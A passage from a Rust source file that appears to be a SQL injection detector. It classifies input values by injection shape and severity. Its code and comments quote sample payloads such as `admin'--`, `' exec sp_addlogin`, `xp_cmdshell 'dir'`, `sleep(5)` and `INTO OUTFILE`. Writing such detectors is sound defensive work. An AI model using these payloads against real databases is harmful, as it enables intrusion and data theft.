            let (end, k) = operand(t, i + 1)?;
            Some((end, k))
        }
        Tok::Kw(Kw::Not) => operand(t, i + 1),
        k @ (Tok::Num
        | Tok::Str { .. }
        | Tok::Var { .. }
        | Tok::Kw(Kw::Null | Kw::True | Kw::False)
        | Tok::Catalog) => Some((i + 1, k)),
        k @ (Tok::Bare | Tok::Func(_)) => {
            if matches!(kind(t, i + 1), Some(Tok::LParen)) {
                Some((skip_parens(t, i + 1), k))
            } else {
                // `now`, `user` without a call are words.
                Some((i + 1, Tok::Bare))
            }
        }
        // `user()`, `database()`, `schema()`: functions spelled like keywords.
        Tok::Kw(Kw::Table) if matches!(kind(t, i + 1), Some(Tok::LParen)) => {
            Some((skip_parens(t, i + 1), Tok::Func(Func::Plain)))
        }
        // A column named `user` or `schema` is a word.
        Tok::Kw(Kw::Table) => Some((i + 1, Tok::Bare)),
        Tok::LParen => Some((skip_parens(t, i), Tok::LParen)),
        // `= ALL (SELECT email)`: a comparison with a subquery's every row.
        Tok::Kw(Kw::All)
            if matches!(kind(t, i + 1), Some(Tok::LParen))
                && matches!(kind(t, i + 2), Some(Tok::Kw(Kw::Select))) =>
        {
            Some((skip_parens(t, i + 1), Tok::LParen))
        }
        Tok::Kw(Kw::Select) => select_list(t, i + 1).then_some((t.len(), Tok::Kw(Kw::Select))),
        // `CASE WHEN 1 THEN ...`, `CASE 1 WHEN ...` ("case studies show" is a noun phrase).
        Tok::Kw(Kw::Case) => {
            let expression = match kind(t, i + 1) {
                Some(Tok::Num | Tok::Str { .. } | Tok::Var { .. } | Tok::Func(_) | Tok::LParen) => {
                    true
                }
                Some(Tok::Bare) => !matches!(kind(t, i + 2), None | Some(Tok::Bare)),
                _ => false,
            };
            expression.then_some((t.len(), Tok::LParen))
        }
        _ => None,
    }
}

fn skip_parens(t: &[Token], open: usize) -> usize {
    let mut depth = 0usize;
    for (j, tok) in t.iter().enumerate().skip(open) {
        match tok.kind {
            Tok::LParen => depth += 1,
            Tok::RParen => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return j + 1;
                }
            }
            _ => {}
        }
    }
    t.len()
}

/// Whether the token at `i` continues an expression (or the value ends there).
fn continues_expression(t: &[Token], i: usize, ended_by_comment: bool) -> bool {
    use Kw::*;
    match kind(t, i) {
        None => true,
        Some(
            Tok::Cmp
            | Tok::Logic
            | Tok::Arith
            | Tok::Semi
            | Tok::RParen
            | Tok::Kw(
                Like | Is | In | Between | Regexp | Union | Order | Group | Limit | Into | Having,
            ),
        ) => true,
        // `' or 'x'` ends where a quote the application adds would close it.
        Some(Tok::Str { closed: false }) => ended_by_comment || i + 1 == t.len(),
        _ => false,
    }
}

/// What follows a breakout at `i` (a closed string, or a number at the start).
fn after_breakout(
    t: &[Token],
    text: &[u8],
    mut i: usize,
    ended_by_comment: bool,
    from_string: bool,
    short_word: bool,
) -> Verdict {
    use Kw::*;
    let start = i.saturating_sub(1);
    if from_string && implicit_comparison(t, text, i) {
        return Some((Severity::High, 0.75, start, t.len()));
    }
    // `user'collate nocase--`: the closed string given a collation, the rest cut off.
    if from_string
        && ended_by_comment
        && i + 2 == t.len()
        && matches!(kind(t, i + 1), Some(Tok::Bare | Tok::Str { .. }))
        && text
            .get(t.get(i).map_or(0..0, |x| x.start..x.end))
            .is_some_and(|w| w.eq_ignore_ascii_case(b"collate"))
    {
        return Some((Severity::High, 0.75, start, t.len()));
    }
    // The end of a MySQL full-text search, `MATCH (c) AGAINST ('x' IN BOOLEAN MODE)`: the
    // search's modifier, then the parenthesis it closes.
    if from_string
        && matches!(kind(t, i), Some(Tok::Kw(Kw::In)))
        && matches!(kind(t, i + 1), Some(Tok::Bare))
        && matches!(kind(t, i + 2), Some(Tok::Bare))
    {
        let close = if matches!(kind(t, i + 3), Some(Tok::Bare)) {
            i + 4
        } else {
            i + 3
        };
        if matches!(kind(t, close), Some(Tok::RParen)) {
            i = close;
        }
    }
    while matches!(kind(t, i), Some(Tok::RParen)) {
        i += 1;
    }
    // A closed subquery given an alias before the test, as sqlmap's boundaries write it
    // (`1") AS XsXY WHERE 5470=5470 OR ...`): the alias is skipped, the WHERE judged.
    if matches!(kind(t, i), Some(Tok::Kw(As)))
        && matches!(kind(t, i + 1), Some(Tok::Bare))
        && matches!(kind(t, i + 2), Some(Tok::Kw(Where)))
    {
        i += 2;
    }
    let verdict = |sev, conf, end: usize| Some((sev, conf, start, end.min(t.len())));
    match kind(t, i) {
        // `admin'--`: a short word, the quote, and a comment cutting the rest of the query.
        None if ended_by_comment && from_string && short_word && i > 0 => {
            verdict(Severity::High, 0.8, i)
        }
        Some(Tok::Logic) => {
            let (end, op) = operand(t, i + 1)?;
            let strong_operand = matches!(
                op,
                Tok::Func(_) | Tok::LParen | Tok::Kw(Select) | Tok::Var { system: true }
            );
            let next = kind(t, end);
            let compared = compared_at(t, end);
            let literal = matches!(
                op,
                Tok::Num | Tok::Str { .. } | Tok::Kw(Null | True | False)
            );
            // MySQL's implicit comparison, `A' AND 'B`: a short word closed, a logical operator,
            // and a short word whose quote the application's own closing quote ends.
            let implicit = short_word
                && t.first().is_some_and(|s| s.end > s.start + 1)
                && op == (Tok::Str { closed: false })
                && end == t.len()
                && t.get(i + 1).is_some_and(|s| {
                    let content = text.get(s.start + 1..s.end).unwrap_or_default();
                    !content.is_empty()
                        && content.len() <= 40
                        && !content
                            .iter()
                            .any(|b| b.is_ascii_whitespace() || *b == b'\'')
                });
            let ok = if from_string {
                strong_operand
                    || compared
                    || implicit
                    || (literal
                        && op != Tok::Str { closed: false }
                        && !matches!(next, Some(Tok::Str { closed: false }))
                        && continues_expression(t, end, ended_by_comment))
                    || (op == Tok::Bare && (next.is_none() && ended_by_comment))
            } else {
                strong_operand
                    || compared
                    || (end == t.len() && ended_by_comment)
                    // `9 or 1 group by concat(...) having min(0)`: a condition, then a clause.
                    || (literal
                        && matches!(
                            next,
                            Some(Tok::Kw(Group | Order | Having | Limit | Union | Procedure))
                        ))
                    // `1 and true`: a condition, and the value ends.
                    || (end == t.len() && matches!(op, Tok::Kw(True | False)))
            };
            ok.then(|| (Severity::High, 0.9, start, end.min(t.len())))
        }
        Some(Tok::Cmp) if from_string => {
            let (end, op) = operand(t, i + 1)?;
            let ok = match op {
                Tok::Bare => matches!(kind(t, end), Some(Tok::Logic | Tok::Semi)),
                _ => continues_expression(t, end, ended_by_comment),
            };
            ok.then(|| (Severity::High, 0.8, start, end.min(t.len())))
        }
        // `1*(ascii(mid(user(),1,1))>50)`: a number times a condition on a function's result.
        Some(Tok::Arith)
            if !from_string
                && matches!(kind(t, i + 1), Some(Tok::LParen))
                && matches!(operand(t, i + 2), Some((_, Tok::Func(_) | Tok::Kw(Select))))
                && operand(t, i + 2).is_some_and(|(end, _)| compared_at(t, end)) =>
        {
            verdict(Severity::High, 0.8, i + 2)
        }
        Some(Tok::Arith) if from_string => {
            // `'+sleep(5)+'` is an injection; `1/4"-1/2"` is a measurement.
            let (end, op) = operand(t, i + 1)?;
            let strong = matches!(
                op,
                Tok::Func(_)
                    | Tok::LParen
                    | Tok::Kw(Select)
                    | Tok::Var { system: true }
                    | Tok::Catalog
            );
            let severity = if strong {
                Severity::High
            } else {
                Severity::Medium
            };
            continues_expression(t, end, ended_by_comment)
                .then(|| (severity, 0.6, start, end.min(t.len())))
        }
        Some(Tok::Kw(Like)) if from_string => matches!(kind(t, i + 1), Some(Tok::Str { .. }))
            .then(|| (Severity::Medium, 0.6, start, i + 2)),
        Some(Tok::Semi) if statement(t, i + 1) => verdict(Severity::Critical, 0.9, i + 3),
        // MSSQL runs a second statement without a `;`: `' exec sp_addlogin ...`.
        Some(Tok::Kw(
            Insert | Update | Delete | Drop | Create | Alter | Exec | Grant | Declare | Shutdown
            | Truncate,
        )) if from_string && statement(t, i) => verdict(Severity::Critical, 0.85, i + 2),
        // `admin' select * from information_schema.tables--`: a query after a word.
        Some(Tok::Kw(Select)) if from_string && short_word && statement(t, i) => {
            verdict(Severity::High, 0.8, i + 2)
        }
        // After a number too, for the statements whose shape says so:
        // `21 update Content set Title=...`, `1 insert into x ...`.
        Some(Tok::Kw(Insert | Update | Delete | Drop | Create | Alter | Truncate | Declare))
            if statement(t, i) =>
        {
            verdict(Severity::Critical, 0.8, i + 2)
        }
        Some(Tok::Semi) if from_string && i + 1 == t.len() && ended_by_comment => {
            verdict(Severity::High, 0.75, i + 1)
        }
        Some(Tok::Kw(Union)) => {
            let mut j = i + 1;
            while matches!(kind(t, j), Some(Tok::Kw(All | Distinct) | Tok::LParen)) {
                j += 1;
            }
            if matches!(kind(t, j), Some(Tok::Kw(Select))) {
                return Some((Severity::High, 0.95, start, j + 1));
            }
            // `-1 union`, `-6374 union 1,2,3,4,5-- `: the start of a union, or its columns
            // with the SELECT left out.
            let columns = matches!(kind(t, j), Some(Tok::Num))
                && matches!(kind(t, j + 1), Some(Tok::Comma))
                && matches!(kind(t, j + 2), Some(Tok::Num));
            // `10 UNION exec master..xp_cmdshell 'dir'`: a statement after it.
            // ("Union" alone is a word: a value must hold something before it.)
            ((j == t.len() && i > 0) || columns || statement(t, j)).then_some((
                Severity::High,
                0.7,
                start,
                j,
            ))
        }
        Some(Tok::Kw(Order | Group)) if matches!(kind(t, i + 1), Some(Tok::Kw(By))) => {
            let (end, _) = operand(t, i + 2)?;
            let clause_ends = matches!(
                kind(t, end),
                None | Some(
                    Tok::Comma
                        | Tok::Semi
                        | Tok::RParen
                        | Tok::Logic
                        | Tok::Str { closed: false }
                        | Tok::Kw(Asc | Limit | Union | Into | Procedure | Having)
                )
            );
            clause_ends.then(|| (Severity::High, 0.85, start, end.min(t.len())))
        }
        Some(Tok::Kw(Having | Where)) => {
            let (end, op) = operand(t, i + 1)?;
            // `having (1 or true)`: a condition of literals in parentheses.
            let grouped = op == Tok::LParen
                && t.get(i + 2..end.saturating_sub(1)).is_some_and(|inside| {
                    inside
                        .iter()
                        .any(|x| matches!(x.kind, Tok::Logic | Tok::Cmp))
                        && inside.iter().all(|x| {
                            matches!(
                                x.kind,
                                Tok::Logic | Tok::Cmp | Tok::Num | Tok::Kw(True | False | Null)
                            )
                        })
                });
            (compared_at(t, end) || grouped).then(|| (Severity::High, 0.8, start, end.min(t.len())))
        }
        Some(Tok::Kw(Limit | Procedure)) => {
            let (end, op) = operand(t, i + 1)?;
            // `LIMIT 1,1`; "limit (BRK)" is a label.
            if matches!(kind(t, i), Some(Tok::Kw(Limit))) && op != Tok::Num {
                return None;
            }
            continues_expression(t, end, ended_by_comment)
                .then(|| (Severity::High, 0.8, start, end.min(t.len())))
        }
        Some(Tok::Kw(Into)) if matches!(kind(t, i + 1), Some(Tok::Kw(Outfile))) => {
            verdict(Severity::Critical, 0.9, i + 2)
        }
        _ => None,
    }
}

/// Judges one reading of the value.
fn judge(
    t: &[Token],
    text: &[u8],
    ended_by_comment: bool,
    open: Open,
    short_word: bool,
) -> Verdict {
    use Kw::*;
    let mut best: Verdict = None;
    match open {
        Open::Quote(q) => {
            // The string our quote closed must be closed for a breakout.
            if matches!(kind(t, 0), Some(Tok::Str { closed: true })) {
                best = better(
                    best,
                    after_breakout(t, text, 1, ended_by_comment, true, short_word),
                );
                if quoted_expression(t, text, q, ended_by_comment) {
                    best = better(best, Some((Severity::High, 0.75, 1, t.len())));
                }
            }
        }
        Open::Nothing => {
            // A number (maybe signed, maybe quoted by the application's own parenthesis).
            let mut i = 0;
            while matches!(kind(t, i), Some(Tok::Arith)) {
                i += 1;
            }
            if matches!(kind(t, i), Some(Tok::Num)) {
                best = better(
                    best,
                    after_breakout(t, text, i + 1, ended_by_comment, false, false),
                );
            }
            // A longer original value: `17,23 order by 16`, `'642' and (version() like ...)`,
            // `-(1) union select ...`, `product-17 or 1 group by ...`, `PI() and cos(pi())=-1`.
            if let Some((end, wordy)) = original_value(t) {
                if end > i + 1 || !matches!(kind(t, i), Some(Tok::Num)) {
                    let v = after_breakout(t, text, end, ended_by_comment, false, false);
                    // After words, the test must be SQL's own: "salt and pepper = seasoning"
                    // compares words, "labor union" ends in one.
                    let sql_like = !wordy
                        || match kind(t, end) {
                            // A call is not a word: `HOPE AND COS(3)=SIN(4)`.
                            Some(Tok::Logic) => {
                                !matches!(operand(t, end + 1), Some((_, Tok::Bare)) | None)
                                    || matches!(kind(t, end + 2), Some(Tok::LParen))
                            }
                            Some(Tok::Kw(Union)) => end + 1 < t.len(),
                            _ => true,
                        };
                    if sql_like {
                        best = better(best, v);
                    }
                }
                // `1--`, `1 * 1 /*`, `@version--`: a value and a bare comment marker, the
                // shortest test of whether a comment cuts the query.
                if end == t.len()
                    && ended_by_comment
                    && !wordy
                    && !t.iter().any(|x| x.kind == Tok::Comma)
                    && [b"--".as_slice(), b"/*", b"#"]
                        .iter()
                        .any(|marker| text.trim_ascii_end().ends_with(marker))
                {
                    best = better(best, Some((Severity::High, 0.7, 0, end)));
                }
                // An expression in parentheses and a comment cutting the query: `( 1 OR @a ) --`.
                if end == t.len() && ended_by_comment && matches!(kind(t, 0), Some(Tok::LParen)) {
                    let closed = end >= 2 && t[end - 1].kind == Tok::RParen;
                    let inside = t.get(1..end.saturating_sub(1)).unwrap_or_default();
                    let expression = closed
                        && !inside.is_empty()
                        && inside.windows(2).all(|w| {
                            // MySQL's `BINARY` is an operator before its operand.
                            !(w[0].kind == Tok::Bare && w[1].kind == Tok::Bare)
                                || text
                                    .get(w[0].start..w[0].end)
                                    .is_some_and(|x| x.eq_ignore_ascii_case(b"binary"))
                        })
                        && inside.iter().all(|x| {
                            !matches!(x.kind, Tok::Str { closed: false } | Tok::Other | Tok::Semi)
                        })
                        && !(inside.len() == 1 && inside[0].kind == Tok::Bare);
                    if expression {
                        best = better(best, Some((Severity::High, 0.7, 0, end)));
                    }
                }
            }
            // A number compared with itself as the whole value: `1=1`, `42 like 42`, `7<=>7`
            // (true; `11!=11` is false, and CRS calls it benign).
            let true_comparison = |x: &Token| {
                x.kind == Tok::Kw(Like)
                    || matches!(
                        text.get(x.start..x.end),
                        Some(b"=" | b"==" | b"<=>" | b">=" | b"<=")
                    )
            };
            if t.len() == 3
                && true_comparison(&t[1])
                && matches!((kind(t, 0), kind(t, 2)), (Some(Tok::Num), Some(Tok::Num)))
                && same_text(t, text, 0, 2)
            {
                best = better(best, Some((Severity::High, 0.7, 0, 3)));
            }
            // A CASE expression as the whole value: `case 1 when 2 then 2 end`.
            if matches!(kind(t, 0), Some(Tok::Kw(Case)))
                && operand(t, 0).is_some()
                && t.len() >= 4
                && t.last()
                    .and_then(|x| text.get(x.start..x.end))
                    .is_some_and(|w| w.eq_ignore_ascii_case(b"end"))
            {
                best = better(best, Some((Severity::High, 0.75, 0, t.len())));
            }
            // A clause or a statement as the whole value.
            match kind(t, 0) {
                Some(Tok::Kw(Order | Group | Having | Union)) => {
                    let mut v = after_breakout(t, text, 0, ended_by_comment, false, false);
                    // "Order by date, then by name" is a sentence: a clause alone as the value
                    // sorts by a column number (`ORDER BY 5`), or is cut off by a comment.
                    let by_word = matches!(kind(t, 0), Some(Tok::Kw(Order | Group)))
                        && matches!(kind(t, 2), Some(Tok::Bare))
                        && matches!(kind(t, 3), None | Some(Tok::Comma))
                        && !ended_by_comment;
                    if let Some(found) = &mut v {
                        found.1 -= 0.05;
                        if by_word {
                            found.0 = Severity::Medium;
                        }
                    }
                    best = better(best, v);
                }
                Some(Tok::Logic) => {
                    best = better(
                        best,
                        after_breakout(t, text, 0, ended_by_comment, false, false),
                    );
                    // ` or true`, `AND 1`: a condition and nothing else.
                    if t.len() == 2
                        && matches!(kind(t, 1), Some(Tok::Num | Tok::Kw(Kw::True | Kw::False)))
                    {
                        best = better(best, Some((Severity::High, 0.7, 0, 2)));
                    }
                }
                Some(Tok::Kw(Like | Regexp))
                    if matches!(kind(t, 1), Some(Tok::LParen))
                        && matches!(kind(t, 2), Some(Tok::Kw(Select))) =>
                {
                    best = better(best, Some((Severity::High, 0.8, 0, 3)));
                }
                _ if statement(t, 0) => {
                    // A bare `select x from y` may be a question about SQL; with a condition,
                    // a clause, a server variable, a function or a second statement it is a
                    // query.
                    let elaborate = t.iter().enumerate().any(|(j, x)| match x.kind {
                        Tok::Cmp
                        | Tok::Semi
                        | Tok::Var { .. }
                        | Tok::Func(_)
                        | Tok::Catalog
                        | Tok::Kw(Union | Into) => true,
                        // A clause with something in it (`select x from y where` is not).
                        Tok::Kw(Where | Having | By) => operand(t, j + 1).is_some(),
                        Tok::Kw(Limit) => matches!(kind(t, j + 1), Some(Tok::Num)),
                        _ => false,
                    }) || ended_by_comment;
                    let severity = match kind(t, 0) {
                        Some(Tok::Kw(Select)) if elaborate || built_select(t) => Severity::High,
                        Some(Tok::Kw(Select)) => Severity::Medium,
                        _ => Severity::Critical,
                    };
                    best = better(best, Some((severity, 0.75, 0, t.len().min(4))));
                }
                _ => {}
            }
        }
    }
    // Anywhere in the value. Most tokens of a value (words, numbers, strings, punctuation)
    // start nothing on their own: they are passed over without building a verdict.
    for i in 0..t.len() {
        if !matches!(
            t[i].kind,
            Tok::Kw(Union | Waitfor | Into | Drop | Case | Declare)
                | Tok::Semi
                | Tok::Func(Func::Time | Func::Danger)
                | Tok::Logic
                | Tok::Var { system: true }
                | Tok::Catalog
                | Tok::LParen
        ) {
            continue;
        }
        let found: Verdict = match t[i].kind {
            Tok::Kw(Union) => {
                let mut j = i + 1;
                while matches!(kind(t, j), Some(Tok::Kw(All | Distinct) | Tok::LParen)) {
                    j += 1;
                }
                (matches!(kind(t, j), Some(Tok::Kw(Select))) && select_list(t, j + 1)
                    || matches!(kind(t, j), Some(Tok::Kw(Select)))
                        && matches!(kind(t, i + 1), Some(Tok::Kw(All | Distinct))))
                .then_some((Severity::High, 0.95, i, j + 1))
            }
            Tok::Semi if statement(t, i + 1) => Some((Severity::Critical, 0.85, i, i + 3)),
            Tok::Func(Func::Time) if matches!(kind(t, i + 1), Some(Tok::LParen)) => {
                matches!(kind(t, i + 2), Some(Tok::Num)).then_some((Severity::High, 0.85, i, i + 4))
            }
            Tok::Kw(Waitfor)
                if matches!(kind(t, i + 1), Some(Tok::Kw(Delay)))
                    && matches!(kind(t, i + 2), Some(Tok::Str { .. })) =>
            {
                Some((Severity::High, 0.9, i, i + 3))
            }
            // Called on a number and a second argument, it is the error-based shape
            // (`EXTRACTVALUE(9296,CONCAT(...))`, `UPDATEXML(1,...)`): no document is a number.
            Tok::Func(Func::Danger)
                if matches!(kind(t, i + 1), Some(Tok::LParen))
                    && matches!(kind(t, i + 2), Some(Tok::Num))
                    && matches!(kind(t, i + 3), Some(Tok::Comma)) =>
            {
                Some((Severity::High, 0.8, i, i + 4))
            }
            Tok::Func(Func::Danger) if matches!(kind(t, i + 1), Some(Tok::LParen)) => {
                Some((Severity::Medium, 0.6, i, i + 2))
            }
            Tok::Kw(Into) if matches!(kind(t, i + 1), Some(Tok::Kw(Outfile))) => {
                Some((Severity::Critical, 0.9, i, i + 2))
            }
            Tok::Logic => tautology(t, text, i),
            // A server variable as the whole value (`@@version`) is a probe; inside text,
            // a weak sign.
            Tok::Var { system: true } if t.len() == 1 => Some((Severity::High, 0.65, i, i + 1)),
            Tok::Var { system: true } | Tok::Catalog => Some((Severity::Medium, 0.55, i, i + 1)),
            // A subquery: `(SELECT CASE WHEN ...)`, `(select count(*) from x)`.
            Tok::LParen
                if matches!(kind(t, i + 1), Some(Tok::Kw(Select))) && select_list(t, i + 2) =>
            {
                Some((Severity::High, 0.8, i, i + 3))
            }
            // The server's identity as a function's argument: `CHARSET(CURRENT_USER())`,
            // `MID(@@hostname,1,1)`, `LENGTH(version())`.
            Tok::LParen
                if i > 0
                    && matches!(
                        kind(t, i - 1),
                        Some(Tok::Func(_) | Tok::Bare | Tok::Kw(Table))
                    )
                    && server_identity(t, text, i + 1) =>
            {
                Some((Severity::High, 0.75, i - 1, i + 2))
            }
            // A number compared with itself as an argument or in parentheses: the condition
            // a blind injection asks the server to evaluate, `ELT(6920=6920,5638)`,
            // `IIF(1=1,1,1/0)`, `(4485=4485)*2761`, `,(BEGIN IF (7430=7430) THEN ...`.
            Tok::LParen
                if self_comparison(t, text, i + 1)
                    && matches!(kind(t, i + 4), Some(Tok::RParen | Tok::Comma)) =>
            {
                Some((Severity::High, 0.85, i, i + 5))
            }
            // `CASE WHEN 3765=3765 THEN`, `CASE WHEN (5873=5873) THEN`, `CASE 9533 WHEN 9533`.
            Tok::Kw(Case) => {
                let mut j = i + 2;
                while matches!(kind(t, j), Some(Tok::LParen)) && j - i <= 4 {
                    j += 1;
                }
                let when = matches!(kind(t, i + 1), Some(Tok::Bare)) && self_comparison(t, text, j);
                let switch = matches!(kind(t, i + 1), Some(Tok::Num))
                    && matches!(kind(t, i + 2), Some(Tok::Bare))
                    && matches!(kind(t, i + 3), Some(Tok::Num))
                    && same_text(t, text, i + 1, i + 3);
                (when || switch).then_some((Severity::High, 0.85, i, j + 3))
            }
            // T-SQL declaring a typed variable: `DECLARE @x CHAR(9)`, `declare @s varchar(8000)`
            // ("I declare @john the winner" has no type).
            Tok::Kw(Declare)
                if matches!(kind(t, i + 1), Some(Tok::Var { system: false }))
                    && matches!(kind(t, i + 2), Some(Tok::Bare | Tok::Func(_)))
                    && matches!(kind(t, i + 3), Some(Tok::LParen)) =>
            {
                Some((Severity::High, 0.8, i, i + 4))
            }
            Tok::Kw(Drop)
                if matches!(kind(t, i + 1), Some(Tok::Kw(Table)))
                    && matches!(kind(t, i + 2), Some(Tok::Bare)) =>
            {
                Some((Severity::High, 0.7, i, i + 3))
            }
            _ => None,
        };
        best = better(best, found);
    }
    best
}

/// MySQL compares a string with a string through any operator: with the application's
/// quotes around it, `A' AND 'B`, `A' LIKE 'B`, `A '-' B`, `' || '` are conditions. At `i`:
/// the operator (after a closed short word), then a short word whose quote the application
/// closes, and nothing else.
fn implicit_comparison(t: &[Token], text: &[u8], i: usize) -> bool {
    // The word, if short and alone.
    let word = |from: usize, to: usize| {
        let content = text.get(from.min(to)..to).unwrap_or_default().trim_ascii();
        (content.len() <= 40
            && !content
                .iter()
                .any(|b| b.is_ascii_whitespace() || matches!(b, b'\'' | b'"' | b'`')))
        .then_some(content)
    };
    // Single quotes: MySQL's strings; `"LIKE" STAMP` and `SMALL "&" SIGN` are prose.
    let Some(first) = t.first() else {
        return false;
    };
    if first.end == 0 || text.get(first.end - 1) != Some(&b'\'') {
        return false;
    }
    let Some(left) = word(first.start, first.end - 1) else {
        return false;
    };
    let mut j = i;
    if matches!(kind(t, j), Some(Tok::Kw(Kw::Not))) {
        j += 1;
    }
    let operator = match kind(t, j) {
        Some(Tok::Logic | Tok::Arith | Tok::Kw(Kw::Like | Kw::Regexp)) => 1,
        // `A' DIV 'B` and `A' MOD 'B` read as words; `SOUNDS LIKE` as two.
        Some(Tok::Bare) => {
            let word = text.get(t[j].start..t[j].end).unwrap_or_default();
            usize::from(word.eq_ignore_ascii_case(b"mod"))
        }
        _ => 0,
    };
    if operator == 0 {
        return false;
    }
    j += operator;
    if matches!(kind(t, j), Some(Tok::Kw(Kw::Like))) {
        j += 1;
    }
    if j + 1 != t.len()
        || t[j].kind != (Tok::Str { closed: false })
        || text.get(t[j].start) != Some(&b'\'')
    {
        return false;
    }
    // Both words or neither: `A' AND 'B`, `' AND '`; "select 'and'" quotes a word.
    word(t[j].start + 1, t[j].end).is_some_and(|right| left.is_empty() == right.is_empty())
}

/// A whole value that is an expression between the application's two quotes: `aa' or
/// column^'-1`, `1' -1 or '1`, `' is 99999 = '`, `aa'in (0)#`. A word glued to the quote
/// on each side (or nothing), and between them only what an SQL expression is made of, with
/// an operator and something that is not a word. ("James' book or 'novel" joins words.)
fn quoted_expression(t: &[Token], text: &[u8], quote: u8, ended_by_comment: bool) -> bool {
    use Kw::*;
    // A word or a number, or nothing (`4'+X+4'+WOOD` is a size, `X="-DY"` a setting).
    // A signed number too (`'+1`); blanks at the value's ends are the value's own.
    let glued = |content: &[u8]| {
        let digits = content
            .strip_prefix(b"+")
            .or_else(|| content.strip_prefix(b"-"));
        content.len() <= 40
            && (content
                .iter()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
                || digits.is_some_and(|d| !d.is_empty() && d.iter().all(u8::is_ascii_digit)))
    };
    let Some(first) = t.first() else {
        return false;
    };
    let left = text
        .get(first.start..first.end.saturating_sub(1).max(first.start))
        .unwrap_or_default();
    if !glued(left.trim_ascii_start()) {
        return false;
    }
    let end = match t.last() {
        Some(last)
            if t.len() > 1
                && last.kind == (Tok::Str { closed: false })
                && text.get(last.start) == Some(&quote) =>
        {
            let right = text.get(last.start + 1..last.end).unwrap_or_default();
            if !glued(right.trim_ascii_end()) {
                return false;
            }
            t.len() - 1
        }
        _ if ended_by_comment => t.len(),
        _ => return false,
    };
    let middle = t.get(1..end).unwrap_or_default();
    // An expression never sets two words side by side; a sentence does at once.
    if middle.is_empty()
        || middle.len() > 32
        || middle
            .windows(2)
            .any(|w| w[0].kind == Tok::Bare && w[1].kind == Tok::Bare)
    {
        return false;
    }
    let mut operator = false;
    let mut not_a_word = false;
    // Cut by a comment, the value needs a comparison or a logical operator: `x'~email--`
    // negates a word.
    let mut condition = end < t.len();
    for x in middle {
        condition |= matches!(
            x.kind,
            Tok::Logic | Tok::Cmp | Tok::Kw(Is | Like | Regexp | In | Between)
        );
        match x.kind {
            Tok::Logic | Tok::Kw(Is | Like | Regexp | In | Between) => {
                operator = true;
                // `&&`, `||`: no sentence joins words with them.
                not_a_word |= !text.get(x.start).is_some_and(u8::is_ascii_alphabetic);
            }
            // MySQL's `\N`, NULL.
            Tok::Other if text.get(x.start..x.end) == Some(b"\\".as_slice()) => {}
            Tok::Cmp => {
                operator = true;
                not_a_word = true;
            }
            // `'*'` is MySQL's; `"*"` a search for an asterisk.
            Tok::Arith => {
                operator |= quote == b'\'';
                not_a_word = true;
            }
            Tok::Num
            | Tok::Var { .. }
            | Tok::Func(_)
            | Tok::Str { closed: true }
            | Tok::Kw(Null | True | False)
            | Tok::LParen
            | Tok::RParen => not_a_word = true,
            Tok::Bare | Tok::Kw(Not) | Tok::Comma => {}
            _ => return false,
        }
    }
    operator && not_a_word && condition
}

/// `select sin(1),2 from bar where`, `select 1 from foo`, `select (1),(2) from t`: a select
/// list of values, calls or several columns, then `FROM` a table and a clause or the end.
/// ("select x from y" names one column, as a question about SQL might; "Select 3 from the
/// list below" goes on in words.)
fn built_select(t: &[Token]) -> bool {
    use Kw::*;
    let Some(from) = t.iter().take(64).position(|x| x.kind == Tok::Kw(From)) else {
        return false;
    };
    let built = t[1..from].iter().any(|x| {
        matches!(
            x.kind,
            Tok::Comma | Tok::Num | Tok::Str { .. } | Tok::Var { .. } | Tok::Func(_) | Tok::LParen
        )
    });
    let table = match kind(t, from + 1) {
        Some(Tok::Bare | Tok::Catalog) => from + 2,
        Some(Tok::LParen) => skip_parens(t, from + 1),
        _ => return false,
    };
    built
        && matches!(
            kind(t, table),
            None | Some(
                Tok::Kw(Where | Order | Group | Limit | Union | Having)
                    | Tok::Semi
                    | Tok::RParen
                    | Tok::Comma
            )
        )
}

/// Where the application's original value ends, when the value starts with one: numbers,
/// strings, variables, words, calls and parenthesized groups, joined by commas and arithmetic
/// (`17,23`, `'642'`, `-(1)`, `product/show-7`, `version()`). Tells whether it holds a word.
fn original_value(t: &[Token]) -> Option<(usize, bool)> {
    let mut i = 0;
    let mut wordy = false;
    while matches!(kind(t, i), Some(Tok::Arith)) {
        i += 1;
    }
    for _ in 0..8 {
        match kind(t, i)? {
            Tok::Func(_) | Tok::Bare | Tok::Kw(Kw::Table)
                if matches!(kind(t, i + 1), Some(Tok::LParen)) =>
            {
                i = skip_parens(t, i + 1);
            }
            Tok::LParen => i = skip_parens(t, i),
            Tok::Bare => {
                wordy = true;
                i += 1;
            }
            Tok::Num
            | Tok::Str { closed: true }
            | Tok::Var { .. }
            | Tok::Kw(Kw::True | Kw::False | Kw::Null) => i += 1,
            _ => return None,
        }
        // `theme=1 or ...`: the parameter's own `name=value` too.
        if matches!(kind(t, i), Some(Tok::Arith | Tok::Comma | Tok::Cmp))
            && matches!(
                kind(t, i + 1),
                Some(
                    Tok::Num
                        | Tok::Bare
                        | Tok::Str { closed: true }
                        | Tok::Var { .. }
                        | Tok::LParen
                        | Tok::Func(_)
                )
            )
        {
            i += 1;
            continue;
        }
        return Some((i, wordy));
    }
    None
}

/// Whether the tokens at `i` read who and what the server is: `@@hostname`, `user()`,
/// `version()`, `database()`.
fn server_identity(t: &[Token], text: &[u8], i: usize) -> bool {
    const NAMES: [&[u8]; 10] = [
        b"user",
        b"current_user",
        b"session_user",
        b"system_user",
        b"database",
        b"schema",
        b"version",
        b"db_name",
        b"user_name",
        b"connection_id",
    ];
    match kind(t, i) {
        Some(Tok::Var { system: true }) => true,
        Some(Tok::Func(_) | Tok::Kw(Kw::Table) | Tok::Bare) => {
            matches!(kind(t, i + 1), Some(Tok::LParen))
                && matches!(kind(t, i + 2), Some(Tok::RParen))
                && text
                    .get(t[i].start..t[i].end)
                    .is_some_and(|w| NAMES.iter().any(|n| w.eq_ignore_ascii_case(n)))
        }
        _ => false,
    }
}

/// Whether the tokens at `i` compare a number with the same number: `4485=4485`.
fn self_comparison(t: &[Token], text: &[u8], i: usize) -> bool {
    matches!(kind(t, i), Some(Tok::Num))
        && matches!(kind(t, i + 1), Some(Tok::Cmp))
        && text.get(t[i + 1].start..t[i + 1].end) == Some(b"=".as_slice())
        && matches!(kind(t, i + 2), Some(Tok::Num))
        && same_text(t, text, i, i + 2)
}

fn same_text(t: &[Token], text: &[u8], a: usize, b: usize) -> bool {
    match (t.get(a), t.get(b)) {
